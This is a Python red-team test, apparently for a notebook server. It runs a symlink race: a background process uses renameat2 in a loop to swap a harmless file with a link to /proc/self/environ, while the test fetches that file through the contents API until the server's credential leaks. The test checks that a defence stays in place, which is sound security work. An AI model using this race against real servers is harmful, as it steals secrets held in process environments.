from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

SWAP = """
import os, subprocess, sys
code = '''
import ctypes, os
open("race.txt", "w").write("harmless")
for name, place in (("race.lnk", "/proc/self/environ"),):
    if not os.path.lexists(name):
        os.symlink(place, name)
swap = ctypes.CDLL(None).renameat2
while True:
    swap(-100, b"race.txt", -100, b"race.lnk", 2)
'''
swapping = subprocess.Popen([sys.executable, "-c", code])
"""
TRIES = 200


@channel(
    "race",
    "A file that turns into a link to the server's environment and back, thousands of times a second",
    direction="reach",
    closed_by="contents manager: what is checked is the open descriptor",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(SWAP)
    got = b""
    for _ in range(TRIES):
        got += site.get("api/contents/race.txt?type=file&format=text").body
        if site.credential in got:
            break
    site.run("swapping.kill(); swapping.wait();")
    return secret if site.credential in got else None
